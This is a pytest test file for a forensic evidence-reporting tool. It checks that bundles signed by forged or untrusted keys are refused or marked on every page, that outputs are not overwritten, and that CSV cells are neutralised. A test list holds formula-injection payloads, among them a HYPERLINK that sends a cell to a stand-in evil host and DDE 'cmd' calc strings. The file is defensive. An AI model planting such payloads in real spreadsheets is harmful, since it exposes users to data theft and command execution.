"""Trust at intake: `evkit report` and `evkit readiness` take evidence only when a key the analyst
trusts signed it (report/intake.py), say so on every page when told to go on anyway, never sign a
custody record for untrusted evidence, refuse to overwrite outputs, and write inert CSV cells."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess

import pytest

import scenario_mini as mini
from bundlekit import mia, write_bundle
from readiness_data import E5, config_pages, with_sqi, write_readiness_bundle
from evkit.cli import main
from evkit.manifests.layout import allowed_signers_line
from evkit.report.outputs.csvcells import csv_bytes, neutralise

EXAMINER = "examiner@firm.example"
FORGER_PASSPHRASE = "forger-passphrase-long"

pdftotext_missing = pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext not installed")


def pages(pdf) -> list[str]:
    """The text of each page of `pdf`, whitespace flattened."""
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                          check=True).stdout
    return [" ".join(p.split()) for p in text.split("\f") if p.strip()]


@pytest.fixture(scope="module")
def forger(tmp_path_factory):
    """Another key that claims the examiner's e-mail: what someone re-signing the evidence holds."""
    from evkit.manifests.keys import generate_key, load_signing_key

    path = tmp_path_factory.mktemp("forger") / "forger.key"
    generate_key(path, EXAMINER, FORGER_PASSPHRASE)
    return load_signing_key(path, FORGER_PASSPHRASE)


@pytest.fixture(scope="module")
def case(tmp_path_factory, signing_key, forger, examiner_pub):
    root = tmp_path_factory.mktemp("trust")
    for name, key in (("IR-MINI_C1", signing_key), ("IR-MINI_FORGED", forger)):
        write_bundle(root / name, mini.records(), window=mini.EVIDENCE_WINDOW, ledger=mini.ledger(),
                     extra_files=mini.folder_stats_files(), case_id="IR-MINI", key=key)
    (root / "case.toml").write_text(mini.CASE_TOML, encoding="utf-8")
    shutil.copy(examiner_pub, root / "examiner.pub")
    return root


def report(case, out, *extra, bundle="IR-MINI_C1"):
    return main(["report", str(case / bundle), "--case", str(case / "case.toml"), "--out", str(out), *extra])


def fresh_copy(case, name, tmp_path):
    copy = tmp_path / name
    shutil.copytree(case / name, copy)
    return copy


# ---- item 1: the report trusts only the analyst's key ---------------------------------------------

def test_forged_bundle_without_a_trusted_key_is_refused(case, tmp_path, capsys):
    assert report(case, tmp_path / "out", bundle="IR-MINI_FORGED") == 3
    err = capsys.readouterr().err
    assert "refused" in err and "--signer-key" in err and "--allow-untrusted" in err
    assert "Traceback" not in err
    assert not (tmp_path / "out").exists()


def test_forged_bundle_is_refused_against_the_examiners_key(case, tmp_path, capsys):
    code = report(case, tmp_path / "out", "--signer-key", str(case / "examiner.pub"), bundle="IR-MINI_FORGED")
    assert code in (1, 3)
    assert "refused" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_trusted_bundle_without_a_key_is_refused_too(case, tmp_path):
    assert report(case, tmp_path / "out") == 3
    assert not (tmp_path / "out").exists()


@pdftotext_missing
def test_allow_untrusted_marks_every_page_and_signs_no_custody(analyst_passphrase, case, tmp_path, capsys, key_path,
                                                                monkeypatch):
    bundle = fresh_copy(case, "IR-MINI_FORGED", tmp_path)
    before = sorted(p.name for p in (bundle / "custody").iterdir())
    monkeypatch.setenv("EVKIT_PASSPHRASE", analyst_passphrase)
    code = main(["report", str(bundle), "--case", str(case / "case.toml"), "--out", str(tmp_path / "out"),
                 "--allow-untrusted", "--key", str(key_path)])
    err = capsys.readouterr().err
    assert code == 0, err
    assert "UNTRUSTED EVIDENCE" in err and "no report-generated custody record was written" in err
    assert sorted(p.name for p in (bundle / "custody").iterdir()) == before
    findings = json.loads((tmp_path / "out" / "findings.json").read_text(encoding="utf-8"))
    assert findings["evidence_valid"] is False and findings["evidence_state"] == "untrusted"
    assert any(w.startswith("UNTRUSTED EVIDENCE") for w in findings["evidence_warnings"])
    assert findings["bundles"][0]["signer_trusted"] is False
    texts = pages(tmp_path / "out" / "report.pdf")
    assert len(texts) > 2
    for number, text in enumerate(texts, 1):
        assert "UNTRUSTED EVIDENCE" in text, f"page {number} does not say so"
    assert "NOT verified against a key you trust" in texts[0]
    assert "verified against the key you trust" not in texts[0].replace("NOT verified against a key you trust", "")


@pdftotext_missing
def test_trusted_bundle_page_one_names_the_signer_and_fingerprint(case, tmp_path, signing_key, capsys):
    assert report(case, tmp_path / "out", "--signer-key", str(case / "examiner.pub")) == 0
    assert "UNTRUSTED" not in capsys.readouterr().err
    first = pages(tmp_path / "out" / "report.pdf")[0]
    assert f"Signed by {EXAMINER} (key {signing_key.fingerprint}), verified against the key you trust" in first
    assert "UNTRUSTED" not in first and "INVALID" not in first
    findings = json.loads((tmp_path / "out" / "findings.json").read_text(encoding="utf-8"))
    assert findings["evidence_valid"] is True and findings["evidence_state"] == "valid"
    assert findings["bundles"][0]["signer_fingerprint"] == signing_key.fingerprint
    assert findings["bundles"][0]["signer_trusted"] is True
    [group] = findings["signers"]
    assert group["bundles"] == ["IR-MINI_C1"] and group["verdict"] == "valid"


@pdftotext_missing
def test_bundles_with_different_signers_are_listed_as_such(analyst_passphrase, case, tmp_path, signing_key, key_path):
    """Two trusted examiners (an allowed_signers file), one bundle each."""
    from evkit.manifests.keys import load_signing_key

    analyst = load_signing_key(key_path, analyst_passphrase)
    second = write_bundle(tmp_path / "IR-MINI_C2", mini.records(), window=mini.EVIDENCE_WINDOW,
                          ledger=mini.ledger(), extra_files=mini.folder_stats_files(), case_id="IR-MINI",
                          key=analyst)
    allowed = tmp_path / "allowed_signers"
    allowed.write_text("".join(allowed_signers_line(k.signer, k.openssh_line) + "\n"
                               for k in (signing_key, analyst)), encoding="utf-8")
    code = main(["report", str(case / "IR-MINI_C1"), str(second), "--case", str(case / "case.toml"),
                 "--out", str(tmp_path / "out"), "--allowed-signers", str(allowed)])
    assert code == 0
    first = pages(tmp_path / "out" / "report.pdf")[0]
    assert "The bundles were signed by 2 different keys" in first
    assert f"(key {signing_key.fingerprint}), verified against the key you trust (bundle: IR-MINI_C1)" in first
    assert f"(key {analyst.fingerprint}), verified against the key you trust (bundle: IR-MINI_C2)" in first


def test_a_missing_trusted_key_file_is_a_usage_error(case, tmp_path, capsys):
    assert report(case, tmp_path / "out", "--signer-key", str(tmp_path / "nope.pub")) == 2
    assert "Traceback" not in capsys.readouterr().err


# ---- item 9: an occupied output folder needs --force ----------------------------------------------

def test_output_folder_with_files_is_refused_without_force(case, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "report.pdf").write_bytes(b"an earlier report")
    assert report(case, out, "--signer-key", str(case / "examiner.pub")) == 2
    err = capsys.readouterr().err
    assert "--force" in err and err.count("\n") == 1
    assert (out / "report.pdf").read_bytes() == b"an earlier report"
    assert report(case, out, "--signer-key", str(case / "examiner.pub"), "--force") == 0
    assert (out / "report.pdf").read_bytes().startswith(b"%PDF-")


def test_an_empty_output_folder_is_fine(case, tmp_path):
    (tmp_path / "out").mkdir()
    assert report(case, tmp_path / "out", "--signer-key", str(case / "examiner.pub")) == 0


# ---- item 5 (CSV): cells a spreadsheet would evaluate come out inert ------------------------------

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE_IDS)
def test_neutralise_prefixes_a_quote(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["<o1@contoso.com>", "", "alice@contoso.com", "2023-06-01T00:00:00Z", "a=b"])
def test_neutralise_leaves_ordinary_cells_alone(cell):
    assert neutralise(cell) == cell


def test_csv_bytes_neutralises_every_cell():
    rows = list(csv.reader(csv_bytes(["=h"], [["=x", "ok", "@y"]]).decode().splitlines()))
    assert rows == [["'=h"], ["'=x", "ok", "'@y"]]


def test_items_csv_message_ids_come_out_inert(tmp_path, signing_key, examiner_pub):
    folder = "=HYPERLINK(\"http://evil.example\")"
    records = [mia("m-hostile", "2023-06-02T10:00:00", mini.A, ip=mini.ATTACKER_IP, session="s-1",
                   folders={folder: HOSTILE_IDS})]
    bundle = write_bundle(tmp_path / "IR-MINI_H1", records, window=mini.EVIDENCE_WINDOW, case_id="IR-MINI",
                          key=signing_key)
    (tmp_path / "case.toml").write_text(mini.CASE_TOML, encoding="utf-8")
    assert main(["report", str(bundle), "--case", str(tmp_path / "case.toml"), "--out", str(tmp_path / "out"),
                 "--signer-key", str(examiner_pub)]) == 0
    with (tmp_path / "out" / "items.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    got = {r["internet_message_id"] for r in rows}
    assert got == {"'" + i for i in HOSTILE_IDS}
    assert all(r["folder"] == "'" + folder for r in rows)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# ---- readiness: the same intake --------------------------------------------------------------------

@pytest.fixture(scope="module")
def readiness_bundles(tmp_path_factory, signing_key, forger):
    boxes = [with_sqi("alice@contoso.com")]
    files = config_pages(org={"AuditDisabled": False}, admin={"UnifiedAuditLogIngestionEnabled": True},
                         mailboxes=boxes, bypass=[], folders={}, users=[], skus=[E5],
                         licence_details={m["UserPrincipalName"]: [E5] for m in boxes})
    root = tmp_path_factory.mktemp("ready")
    return {name: write_readiness_bundle(root / name, files, key=key)
            for name, key in (("READY_R1", signing_key), ("READY_FORGED", forger))}


def test_readiness_refuses_a_forged_bundle(readiness_bundles, examiner_pub, tmp_path, capsys):
    forged = str(readiness_bundles["READY_FORGED"])
    assert main(["readiness", forged, "--out", str(tmp_path / "a")]) == 3
    assert main(["readiness", forged, "--out", str(tmp_path / "b"), "--signer-key", str(examiner_pub)]) in (1, 3)
    assert "refused" in capsys.readouterr().err
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()


@pdftotext_missing
def test_readiness_allow_untrusted_marks_every_page(readiness_bundles, tmp_path, capsys):
    code = main(["readiness", str(readiness_bundles["READY_FORGED"]), "--out", str(tmp_path / "out"),
                 "--allow-untrusted"])
    assert code == 0
    assert "UNTRUSTED EVIDENCE" in capsys.readouterr().err
    model = json.loads((tmp_path / "out" / "readiness.json").read_text(encoding="utf-8"))
    assert model["evidence_state"] == "untrusted" and model["evidence_valid"] is False
    assert model["evidence_warnings"]
    texts = pages(tmp_path / "out" / "readiness.pdf")
    for number, text in enumerate(texts, 1):
        assert "UNTRUSTED EVIDENCE" in text, f"page {number} does not say so"


@pdftotext_missing
def test_readiness_page_one_names_the_trusted_signer(readiness_bundles, examiner_pub, signing_key, tmp_path):
    assert main(["readiness", str(readiness_bundles["READY_R1"]), "--out", str(tmp_path / "out"),
                 "--signer-key", str(examiner_pub)]) == 0
    first = pages(tmp_path / "out" / "readiness.pdf")[0]
    assert f"Signed by {EXAMINER} (key {signing_key.fingerprint}), verified against the key you trust" in first


def test_readiness_needs_force_for_an_occupied_folder(readiness_bundles, examiner_pub, tmp_path, capsys):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "readiness.json").write_text("{}", encoding="utf-8")
    args = ["readiness", str(readiness_bundles["READY_R1"]), "--out", str(tmp_path / "out"),
            "--signer-key", str(examiner_pub)]
    assert main(args) == 2
    assert "--force" in capsys.readouterr().err
    assert (tmp_path / "out" / "readiness.json").read_text(encoding="utf-8") == "{}"
    assert main([*args, "--force"]) == 0


def test_csv_bytes_matches_the_csv_module_and_quotes_a_carriage_return():
    import io

    rows = [["a,b", 'say "hi"', "two\nlines", "plain", "", "x\ry"]]
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\n").writerows(rows[0:1])
    ours = csv_bytes(["h"], rows).decode("utf-8").split("\n", 1)[1]
    assert ours.replace('"x\ry"', "x\ry") == buf.getvalue()
    assert list(csv.reader(io.StringIO(ours, newline=""))) == rows
